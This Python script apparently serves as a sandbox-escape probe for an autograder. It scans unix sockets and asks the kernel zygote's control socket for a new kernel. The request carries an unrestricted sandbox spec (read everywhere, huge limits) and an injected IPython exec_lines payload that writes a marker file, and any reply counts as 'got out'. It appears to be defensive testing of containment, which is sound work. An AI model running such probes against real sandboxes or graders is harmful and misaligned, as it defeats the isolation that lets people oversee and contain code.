"""Find the kernel zygote's control socket (and any unix socket in view) and ask it, in its own
protocol, for a new kernel with our environment: a spec that reads and writes everywhere and an
IPython exec_lines that writes a marked file. Also replays the request with a bare JSON line.

SAFETY: with no sandbox only sockets held by this kernel's own ancestors are tried.
Got out: the marked file appears on the host (a kernel started outside our sandbox), or a
control socket of the grader answers the kernel's request.
"""
import glob
import json
import socket

payload = f"open('/tmp/{_MARK}-zygote', 'w').write('x'); open('{_COURSE}/{_MARK}-zygote', 'w').write('x')"
spec = json.dumps({"workdir": "/tmp", "memory_mb": 100000, "cpu_seconds": 100000, "file_mb": 100000,
                   "read_roots": ["/"], "uid": None})
env = dict(_os.environ, AUTOGRADER_SANDBOX=spec)
request = {"args": ["-f", f"/tmp/{_MARK}-k.json", f"--IPKernelApp.exec_lines=[{payload!r}]"], "cwd": "/tmp",
           "env": env, "job_id": _MARK, "kind": "kernel"}
paths = set(glob.glob("/conn/*") + glob.glob("/tmp/**/*.sock", recursive=True) + glob.glob("/run/**/*.sock", recursive=True))
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and not parts[7].startswith("@"):
            paths.add(parts[7])
except OSError:
    pass
paths = {p for p in paths if not p.startswith("/tmp/") or not _host_pidns()}
if _host_pidns():  # SAFETY: no sandbox: only the sockets our own ancestors hold, never others' zygotes
    held = set()
    for pid in _ancestors():
        try:
            if b"autograder" in _cmdline(pid):
                held |= {_os.readlink(f"/proc/{pid}/fd/{fd}") for fd in _os.listdir(f"/proc/{pid}/fd")}
        except OSError:
            pass
    inodes = {h[8:-1] for h in held if h.startswith("socket:[")}
    paths = set()
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[6] in inodes and not parts[7].startswith("@"):
            paths.add(parts[7])
for path in sorted(paths):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(path)
        s.sendall(json.dumps(request).encode() + b"\n")
        reply = s.recv(4096)
        print(path, "replied", reply[:200])
        if reply and any(w in path for w in ("zygote", "control", "autograde")):
            _got_out(f"the zygote's control socket {path} answered a kernel: {reply[:100]!r}")
        s.close()
    except Exception as exc:
        print(path, type(exc).__name__, str(exc)[:100])
